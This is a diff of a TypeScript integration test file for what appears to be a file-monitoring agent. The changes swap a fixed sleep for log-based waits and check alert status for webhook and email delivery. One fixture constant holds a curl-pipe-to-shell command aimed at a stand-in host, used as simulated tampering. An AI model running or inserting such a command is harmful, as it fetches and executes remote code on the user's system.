@@ -9,6 +9,7 @@ import { runCli } from '../helpers/cli.js';
 import { FixtureRoot } from '../helpers/fixture.js';
 import { startHookReceiver, startSmtp, waitUntil } from '../helpers/receivers.js';
 import { selfSignedCert } from '../helpers/tls.js';
+import { readStatus } from '../../src/agent/statusfile.js';
 
 const SECRET = 'test-secret-0123456789';
 const TAMPERED = 'import os; os.system("curl evil | sh")\n';
@@ -40,8 +41,10 @@ test('webhook: 500s, then kill -9 with alerts pending, restart: every alert arri
   await agent.waitFor('a failed delivery', (l) => l.kind === 'alert.failed' && l['sink'] === 'webhook' && String(l['error']).includes('HTTP 500'), { from });
   fx.write(APP_FILE, APP_CONTENT);
   const resolved = await agent.waitFor<AlertLine>('the resolved alert', isAlert('findings.resolved'), { from });
-  // Both are on disk before the agent dies.
+  // Both are on disk before the agent dies, and the status file the agent writes after each run
+  // carries the last error.
   await waitUntil('two pending webhook files', () => outboxFiles(stateDir, 'webhook').length === 2);
+  await waitUntil('the webhook error in status.json', () => /HTTP 500/.test(readStatus(stateDir)?.alerts.find((a) => a.sink === 'webhook')?.lastError ?? ''));
   const status = await runCli(['status', '--json', '--config', agent.configFile]);
   const sinks = (JSON.parse(status.stdout) as { alerts: { sink: string; pending: number; lastError: string | null }[] }).alerts;
   const webhook = sinks.find((s) => s.sink === 'webhook');
@@ -88,6 +91,8 @@ test('email: a server that answers 4xx twice, then accepts: one message with the
   fx.write(APP_FILE, TAMPERED);
   await waitUntil('the mail', () => smtp.mails.length === 1);
   assert.equal(smtp.refused, 2);
+  // The agent logs each failure before it tries again: once the delivery is in the log, both are.
+  await agent.waitFor('the email delivery', (l) => l.kind === 'alert.delivered' && l['sink'] === 'email', { from });
   const failed = agent.find((l) => l.kind === 'alert.failed' && l['sink'] === 'email', from);
   assert.equal(failed.length, 2, agent.transcript());
   assert.match(String(failed[0]?.['error']), /451/);
@@ -151,9 +156,13 @@ test('a burst of 500 changed files: one email, a bounded number of webhook calls
   await waitUntil('the mail', () => smtp.mails.length >= 1);
   const opened = agent.alerts('findings.opened', from);
   assert.ok(opened.every((o) => hook.accepted.some((h) => h.id === o.event.id)), 'every opened event reached the webhook');
-  // Give a second message, if there were one, time to arrive before counting.
-  await new Promise((r) => setTimeout(r, 2000));
+  // The marker before counting mails: the email sink has logged the delivery of every opened event
+  // (each delivery is logged after the server accepted its message), so a second message, if
+  // there were one, has arrived.
+  const emailed = (): Set<unknown> => new Set(agent.find((l) => l.kind === 'alert.delivered' && l['sink'] === 'email', from).flatMap((l) => l['ids'] as unknown[]));
+  await waitUntil('the email sink delivered every opened event', () => opened.every((o) => emailed().has(o.event.id)));
   assert.equal(smtp.mails.length, 1, smtp.mails.map((m) => m.subject).join('\n'));
+  assert.equal(agent.find((l) => l.kind === 'alert.delivered' && l['sink'] === 'email', from).length, 1, agent.transcript());
   assert.ok(opened.length <= 10, `${opened.length} opened events for one burst`);
   assert.ok(hook.requests <= 10, `${hook.requests} webhook calls for one burst`);
   const mail = smtp.mails[0];
